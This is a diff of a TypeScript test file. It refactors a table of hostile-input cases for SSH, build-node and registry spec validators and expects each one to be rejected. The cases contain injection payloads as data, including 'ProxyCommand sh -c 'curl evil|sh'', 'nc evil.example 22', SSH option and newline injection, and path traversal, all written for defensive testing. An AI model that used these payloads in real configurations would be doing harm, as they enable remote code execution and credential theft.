@@ -71,6 +71,15 @@ type Mode = "readiness" | "register" | "smoke-test" | "verify-index";
 /** [name, mode, spec after a hostile change, key path and message fragment]. */
 type Case = [string, Mode, unknown, string];
 
+/** `make()` with the value at `keyPath` (keys and list indexes joined by dots) replaced by `value`. */
+function withValue<T>(make: () => T, keyPath: string, value: unknown): T {
+    return changed(make, (v) => {
+        const keys = keyPath.split(".");
+        const last = keys.pop()!;
+        keys.reduce((at, key) => at[key], v)[last] = value;
+    });
+}
+
 function changed<T>(make: () => T, change: (v: any) => void): T {
     const value = make();
     change(value);
@@ -81,177 +90,128 @@ const hostile: Case[] = [
     [
         "a newline and a Host block in the address",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.address = "192.0.2.20\nHost *\n  ProxyCommand sh -c 'curl evil|sh'";
-        }),
+        withValue(readiness, "target.address", "192.0.2.20\nHost *\n  ProxyCommand sh -c 'curl evil|sh'"),
         'target.address: "192.0.2.20\nHost *',
     ],
     [
         "an address that is an ssh option",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.address = "-oProxyCommand=touch";
-        }),
+        withValue(readiness, "target.address", "-oProxyCommand=touch"),
         "target.address: \"-oProxyCommand=touch\" starts with '-'",
     ],
     [
         "a newline in the user",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.user = "builder\nHost *";
-        }),
+        withValue(readiness, "target.user", "builder\nHost *"),
         "target.user: must be a Linux user name",
     ],
     [
         "a newline in the host key alias",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.hostKeyAlias = "i-0abc\n  ProxyCommand x";
-        }),
+        withValue(readiness, "target.hostKeyAlias", "i-0abc\n  ProxyCommand x"),
         "target.hostKeyAlias: must be letters, digits",
     ],
     [
         "a proxy command of someone else's",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.proxyCommand = "sh -c 'curl evil | sh'";
-        }),
+        withValue(readiness, "target.proxyCommand", "sh -c 'curl evil | sh'"),
         "target.proxyCommand: must be the program's SSM session command",
     ],
     [
         "the SSM proxy command with a block after it",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.proxyCommand = `${ssmProxyCommand("eu-north-1")}\nHost *`;
-        }),
+        withValue(readiness, "target.proxyCommand", `${ssmProxyCommand("eu-north-1")}\nHost *`),
         "target.proxyCommand: must be the program's SSM session command",
     ],
     [
         "two host key lines",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.hostKey = `${ED25519_HOST}\n${ED25519_HOST}`;
-        }),
+        withValue(readiness, "target.hostKey", `${ED25519_HOST}\n${ED25519_HOST}`),
         "target.hostKey: must be one OpenSSH public key line",
     ],
-    [
-        "port 0",
-        "readiness",
-        changed(readiness, (s) => {
-            s.target.port = 0;
-        }),
-        "target.port:",
-    ],
+    ["port 0", "readiness", withValue(readiness, "target.port", 0), "target.port:"],
     [
         "a NUL in a script argument",
         "readiness",
-        changed(readiness, (s) => {
-            s.steps[0].args = ["a\0b"];
-        }),
+        withValue(readiness, "steps.0.args", ["a\0b"]),
         "steps.0.args.0: must not contain NUL bytes",
     ],
     [
         "a key the spec does not have",
         "readiness",
-        changed(readiness, (s) => {
-            s.target.identityFile = "/root/.ssh/id_rsa";
-        }),
+        withValue(readiness, "target.identityFile", "/root/.ssh/id_rsa"),
         "target: Unrecognized key",
     ],
     [
         "a Host block in a node's alias",
         "register",
-        changed(ensure, (s) => {
-            s.spec.nodes[0].alias = "rack-1.fleet\nHost *";
-        }),
+        withValue(ensure, "spec.nodes.0.alias", "rack-1.fleet\nHost *"),
         "spec.nodes.0.alias: must be letters, digits",
     ],
     [
         "an ssh pattern as a node's alias",
         "register",
-        changed(ensure, (s) => {
-            s.spec.nodes[0].alias = "*";
-        }),
+        withValue(ensure, "spec.nodes.0.alias", "*"),
         "spec.nodes.0.alias: must be letters, digits",
     ],
     [
         "a newline in a node's address",
         "register",
-        changed(ensure, (s) => {
-            s.spec.nodes[0].address = "192.0.2.20\n  IdentityFile ~/.ssh/id_rsa";
-        }),
+        withValue(ensure, "spec.nodes.0.address", "192.0.2.20\n  IdentityFile ~/.ssh/id_rsa"),
         "spec.nodes.0.address: ",
     ],
     [
         "a newline in a node's user",
         "register",
-        changed(ensure, (s) => {
-            s.spec.nodes[0].user = "b\nHost *";
-        }),
+        withValue(ensure, "spec.nodes.0.user", "b\nHost *"),
         "spec.nodes.0.user: must be a Linux user name",
     ],
     [
         "a node proxy command of someone else's",
         "register",
-        changed(ensure, (s) => {
-            s.spec.nodes[0].proxyCommand = "nc evil.example 22";
-        }),
+        withValue(ensure, "spec.nodes.0.proxyCommand", "nc evil.example 22"),
         "spec.nodes.0.proxyCommand: must be the program's SSM session command",
     ],
     [
         "a comma in a driver option",
         "register",
-        changed(ensure, (s) => {
-            s.spec.nodes[0].driverOptions = { network: "host,image=evil" };
-        }),
+        withValue(ensure, "spec.nodes.0.driverOptions", { network: "host,image=evil" }),
         "spec.nodes.0.driverOptions.network: must not contain commas",
     ],
     [
         "a newline in the owner",
         "register",
-        changed(ensure, (s) => {
-            s.spec.owner = "a/b\nc";
-        }),
+        withValue(ensure, "spec.owner", "a/b\nc"),
         "spec.owner: must be <project>/<stack> on one line",
     ],
     [
         "a builder name with a path in it",
         "register",
-        changed(ensure, (s) => {
-            s.spec.name = "../../etc";
-        }),
+        withValue(ensure, "spec.name", "../../etc"),
         "spec.name: must be lowercase letters",
     ],
     [
         "a smoke-test ref without a digest",
         "smoke-test",
-        changed(smoke, (s) => {
-            s.tests[0].ref = "127.0.0.1:5000/ci/app:latest";
-        }),
+        withValue(smoke, "tests.0.ref", "127.0.0.1:5000/ci/app:latest"),
         "tests.0.ref: must be <repository>@sha256:<digest>",
     ],
     [
         "a registry with a newline",
         "smoke-test",
-        changed(smoke, (s) => {
-            s.registry = "127.0.0.1:5000\n";
-        }),
+        withValue(smoke, "registry", "127.0.0.1:5000\n"),
         "registry: must be a registry host[:port]",
     ],
     [
         "an index digest that is no digest",
         "verify-index",
-        changed(index, (s) => {
-            s.platforms["linux/arm64"] = "latest";
-        }),
+        withValue(index, "platforms.linux/arm64", "latest"),
         "platforms.linux/arm64: must be a sha256 digest",
     ],
     [
         "an index ref without a tag",
         "verify-index",
-        changed(index, (s) => {
-            s.refs = [`127.0.0.1:5000/ci/app@${DIGEST}`];
-        }),
+        withValue(index, "refs", [`127.0.0.1:5000/ci/app@${DIGEST}`]),
         "refs.0: must be <repository>:<tag>@sha256:<digest>",
     ],
 ];
@@ -359,16 +319,12 @@ describe("the specs are well-formed as written here", () => {
         [
             "a host key whose comment follows a tab",
             readinessSpecSchema,
-            changed(readiness, (s) => {
-                s.target.hostKey = `${ED25519_HOST.split(" ").slice(0, 2).join(" ")}\troot@rack-1`;
-            }),
+            withValue(readiness, "target.hostKey", `${ED25519_HOST.split(" ").slice(0, 2).join(" ")}\troot@rack-1`),
         ],
         [
             "register with idle hosts in a new partition",
             ensureInputSchema,
-            changed(ensure, (s) => {
-                s.spec.wake = { instanceIds: ["i-0123456789abcdef0"], region: "eusc-de-east-1" };
-            }),
+            withValue(ensure, "spec.wake", { instanceIds: ["i-0123456789abcdef0"], region: "eusc-de-east-1" }),
         ],
         ["smoke-test", smokeTestSpecSchema, smoke()],
         ["verify-index", indexExpectationSchema, index()],
